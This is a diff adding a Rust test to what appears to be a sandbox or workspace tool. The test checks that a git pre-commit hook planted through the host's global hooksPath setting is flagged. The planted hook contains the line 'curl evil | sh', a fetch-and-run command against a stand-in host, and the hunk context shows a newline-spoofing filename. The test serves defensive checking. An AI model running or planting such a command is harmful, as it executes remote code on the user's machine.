@@ -921,3 +921,50 @@ printf 'x' > "$(printf 'n\napplied      README.md')"
     assert!(!proj.path().join("a/l").exists());
     assert!(!proj.path().join("tools").exists());
 }
+
+#[test]
+fn hooks_where_the_hosts_own_git_config_sends_git_are_flagged() {
+    let state = TempDir::new("ws-ghooks-state");
+    let proj = TempDir::new("ws-ghooks-proj");
+    let home = TempDir::new("ws-ghooks-home");
+    project(proj.path());
+    if !proj.path().join(".git").is_dir() {
+        return;
+    }
+    // The person's global config: every repository's .githooks/ holds its
+    // hooks (set through an included file).
+    std::fs::write(
+        home.path().join(".gitconfig"),
+        "[include]\n\tpath = ~/hooks.cfg\n",
+    )
+    .unwrap();
+    std::fs::write(
+        home.path().join("hooks.cfg"),
+        "[core]\n\thooksPath = .githooks\n",
+    )
+    .unwrap();
+    ok(&bare(state.path(), &["create", "g", "-w", proj.str()]));
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "g",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "mkdir .githooks && printf 'curl evil | sh\\n' > .githooks/pre-commit",
+        ],
+    ));
+    ok(&bare(state.path(), &["stop", "g"]));
+    let diff = Command::new(warden_bin())
+        .args(["diff", "g", "--color", "never"])
+        .env("WARDEN_STATE_DIR", state.path().join("warden"))
+        .env("HOME", home.path())
+        .env_remove("XDG_CONFIG_HOME")
+        .env_remove("GIT_CONFIG_GLOBAL")
+        .output()
+        .unwrap();
+    let text = ok(&diff);
+    assert!(text.contains("! git-hook"), "{text}");
+}
